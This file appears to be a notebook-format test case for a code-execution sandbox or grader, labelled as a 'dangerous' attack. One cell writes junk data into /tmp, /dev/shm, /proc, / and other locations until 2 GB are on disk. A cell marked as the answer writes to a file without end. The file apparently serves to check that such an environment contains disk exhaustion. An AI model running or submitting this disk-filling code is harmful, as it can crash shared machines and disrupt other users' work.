# ---
# jupyter:
#   attack:
#     tries: Writes files until the disk is full, everywhere where it may write.
#     dangerous: true
# ---

# %%
import os
import pathlib

size = 0
for place in (".", "/tmp", "/dev/shm", "/var/tmp", "/run", "/proc", "/dev", "/"):
    try:
        for i in range(100):
            with open(f"{place}/attack-{i}", "wb") as file:
                for _ in range(20):
                    size += file.write(b"x" * 2**24)
                    if size > 2 * 2**30:
                        raise OSError
    except OSError:
        continue
if size > 2 * 2**30:
    print("LEAKED: two gigabytes on disk")


# %% answer="total"
def total(x):
    with open("answer", "wb") as file:
        while True:
            file.write(b"x" * 2**24)
